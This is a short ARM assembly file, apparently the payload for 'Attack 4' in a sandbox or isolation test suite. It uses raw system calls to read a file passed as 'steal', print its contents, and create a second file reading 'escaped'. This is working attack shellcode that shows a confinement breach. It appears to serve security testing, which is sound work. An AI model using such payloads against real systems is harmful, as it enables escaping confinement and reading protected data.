/* Attack 4's payload for 32-bit ARM: the same as payload_i386.S, r0-r2 the arguments. */
    .text
    .arm
    .globl payload
payload:
    push {r4-r7, lr}
    mov r4, r0
    mov r5, r1
    mov r6, r2
    movw r7, #322               /* openat(AT_FDCWD, steal, O_RDONLY) */
    mvn r0, #99
    mov r1, r4
    mov r2, #0
    svc #0
    mov r1, r6                  /* read(fd, buf, 200) */
    mov r2, #200
    mov r7, #3
    svc #0
    cmp r0, #0                  /* write(1, buf, max(n, 0)) */
    movlt r0, #0
    mov r2, r0
    mov r0, #1
    mov r1, r6
    mov r7, #4
    svc #0
    movw r7, #322               /* openat(AT_FDCWD, create, O_WRONLY|O_CREAT, 0644) */
    mvn r0, #99
    mov r1, r5
    mov r2, #65
    movw r3, #420
    svc #0
    adr r1, 1f                  /* write(fd, "escaped\n", 8) */
    mov r2, #8
    mov r7, #4
    svc #0
    pop {r4-r7, pc}
1:  .ascii "escaped\n"
